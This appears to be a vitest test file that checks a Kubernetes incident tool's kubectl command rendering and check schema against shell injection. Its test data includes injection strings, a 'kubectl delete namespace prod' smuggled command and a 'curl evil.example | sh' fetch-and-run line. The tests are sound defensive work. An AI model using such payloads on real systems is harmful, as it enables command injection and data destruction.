// Whatever an author writes into a check, its command is kubectl with the intended words, and
// nothing else runs.

import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { begun, incident } from '../../../test/support/incident-fixtures.ts';
import { random } from '../../../test/support/random.ts';
import { type Check, check as checkSchema } from '../../api/check.ts';
import { type Command, renderCommand } from '../../api/command.ts';
import { buildHandover } from './handover.ts';
import { describeObservation } from './observation-commands.ts';

/** The only folder in PATH, and the working folder of what runs. */
let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'oplab-commands-'));
  writeFileSync(path.join(dir, 'kubectl'), `#!/bin/sh\nprintf '%s\\0' "$#" "$@"\n`, { mode: 0o755 });
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Pastes lines into a shell. Returns the arguments of each kubectl that ran. */
function paste(lines: readonly string[]): string[][] {
  const run = spawnSync('/bin/sh', ['-c', lines.join('\n')], { cwd: dir, env: { PATH: dir, HOME: '/home/x' } });
  expect(String(run.stderr)).toBe('');
  expect(readdirSync(dir)).toEqual(['kubectl']);
  const fields = run.stdout.toString('utf8').split('\0');
  const found: string[][] = [];
  for (let at = 0; at < fields.length - 1; at += Number(fields[at]) + 1) {
    found.push(fields.slice(at + 1, at + 1 + Number(fields[at])));
  }
  return found;
}

const ATTACKS = [
  ...['x; touch seized #', "x' ; touch seized; '", '"$(touch seized)"', '`touch seized`', '$(touch seized)'],
  ...['x\ntouch seized', 'x\r\ntouch seized', 'x && touch seized', '| touch seized', '> seized', '<seized'],
  ...[': kubectl delete namespace prod --wait=false #', '"ready: kubectl delete namespace prod #" != ""'],
  ...['--server=https://evil.example', '-f', '--', '-', '\\', "\\'; touch seized #", "''", '', ' ', '~', '=ls', '*'],
  ...['{a,b}', '!!', '$HOME', '%0a', 'a/../../b', '../secrets', 'x/log', 'é漢😀', '\u202ex', '\u0003x', '\u001b[31m'],
  ...['\ud800', 'tikv', 'app=tikv,a in (b, c)', 'ConfigMap'],
];

/** A check as an Incident that is older than the patterns of its schema could have. */
function adversarialCheck(next: () => number): Check {
  const attack = () =>
    Array.from({ length: 1 + Math.floor(next() * 2) }, () => ATTACKS[Math.floor(next() * ATTACKS.length)]).join('');
  const maybe = <T>(value: T) => (next() < 0.5 ? value : undefined);
  const service = { service: attack(), port: 80, scheme: next() < 0.5 ? 'http' : 'https' } as const;
  const base = { name: attack(), http: undefined, kubernetes: undefined, prometheus: undefined };
  const choice = next();
  if (choice < 0.25) {
    return { ...base, http: { ...service, namespace: maybe(attack()), path: `/${attack()}`, cel: attack() } };
  }
  if (choice < 0.4) {
    const pathPrefix = `/${attack()}`;
    return {
      ...base,
      prometheus: { ...service, namespace: maybe(attack()), pathPrefix, query: attack(), cel: attack() },
    };
  }
  const [name, labelSelector] = next() < 0.5 ? [attack(), undefined] : [undefined, maybe(attack())];
  const kubernetes = { apiVersion: attack(), kind: attack(), namespace: maybe(attack()), name, labelSelector };
  return { ...base, kubernetes: { ...kubernetes, cel: attack() } };
}

describe('the command of a check', () => {
  it('runs kubectl once with the intended words, whatever the author wrote', () => {
    const next = random(11);
    const checks = Array.from({ length: 400 }, () => adversarialCheck(next));
    const commands = checks.map((one) => describeObservation(one, [ATTACKS[Math.floor(next() * 10)] ?? '']).command);
    const pairs = commands.flatMap((command): { command: Command; line: string }[] => {
      const line = renderCommand(command);
      return line === undefined ? [] : [{ command, line }];
    });
    expect(pairs.length).toBeGreaterThan(150);
    expect(paste(pairs.map(({ line }) => line))).toEqual(pairs.map(({ command }) => command.slice(1)));
  });

  it('gives kubectl no options that the author wrote', () => {
    const next = random(12);
    for (const one of Array.from({ length: 400 }, () => adversarialCheck(next))) {
      const { command } = describeObservation(one, ['tikv']);
      const options: string[] = [];
      for (let at = 2; at < command.length && command[at] !== '--'; at += 1) {
        const word = command[at] ?? '';
        if (!word.startsWith('-')) continue;
        options.push(word);
        // Each of these takes the next word, whatever it is.
        at += 1;
      }
      expect(['-n', '-l', '-o', '--raw']).toEqual(expect.arrayContaining(options));
    }
  });

  it('stays below the proxy of its Service', () => {
    const http = { service: 's', port: 80, scheme: 'http', path: '/../../../%2e%2e/x?a=..', cel: 'true' } as const;
    const { command } = describeObservation({ name: 'c', http }, ['a']);
    expect(command.at(-1)).toBe('/api/v1/namespaces/a/services/s:80/proxy/x?a=..');
  });
});

it('a hand-over has commands as data only, and what it says on one line', () => {
  const next = random(13);
  for (const one of Array.from({ length: 200 }, () => adversarialCheck(next))) {
    const { spec, ...rest } = incident({ status: begun([]) });
    const { nextSteps } = buildHandover(
      { ...rest, spec: { ...spec, verify: { ...spec.verify, checks: [one] } } },
      'AttemptsExhausted',
    );
    for (const { what, command } of nextSteps) {
      expect(what).not.toMatch(/[\r\n\t]/);
      if (command !== undefined) expect(renderCommand(command)).toBeDefined();
    }
  }
});

describe('the schema of a check', () => {
  const kubernetes = { apiVersion: 'apps/v1', kind: 'StatefulSet', name: 'tikv-tikv', cel: 'true' };
  const list = { apiVersion: 'v1', kind: 'Pod', cel: 'true' };
  const accepts = (more: object) => checkSchema.safeParse({ name: 'c', ...more }).success;

  it.each([
    kubernetes,
    { ...kubernetes, apiVersion: 'v1' },
    { ...kubernetes, apiVersion: 'pingcap.com/v1alpha1', kind: 'TidbCluster' },
    { ...kubernetes, apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', name: 'system:Leader_1.x' },
    ...['app.kubernetes.io/name=tikv', 'a==b,c!=d,!e', 'a in (b, c),d notin (e),f', '!a', 'a>1,b<2'].map(
      (labelSelector) => ({ ...list, labelSelector }),
    ),
  ])('takes %j', (given) => expect(accepts({ kubernetes: given })).toBe(true));

  it.each([
    ...['x; curl evil.example | sh #', '-x', 'x/log', 'x%2Flog', 'a b', 'a\nb', '.', '..', 'x.', ''].map((name) => ({
      ...kubernetes,
      name,
    })),
    ...['Pod;x', 'pods/log', '-Pod', '1Pod', 'Pod.apps', 'P d', 'Pöd'].map((kind) => ({ ...kubernetes, kind })),
    ...['v1;x', 'a/b/v1', '/v1', 'V1', '../v1', 'v1\n', '-v1'].map((apiVersion) => ({ ...kubernetes, apiVersion })),
    ...['a=b;x', '-a', "a='b'", '$(x)', 'a=b\n', '`x`', '"a"', ' a', 'a|b', 'a&b'].map((labelSelector) => ({
      ...list,
      labelSelector,
    })),
    ...['Tikv', 'a/b', 'a;b', '-a'].map((namespace) => ({ ...kubernetes, namespace })),
  ])('refuses %j', (given) => expect(accepts({ kubernetes: given })).toBe(false));

  it.each(['/a b', '/a\nb', '/é', 'a', '/\u0007'])('refuses the path %j', (given) => {
    expect(accepts({ http: { service: 's', port: 80, path: given, cel: 'true' } })).toBe(false);
    expect(accepts({ prometheus: { service: 's', pathPrefix: given, query: 'up' } })).toBe(false);
  });
});
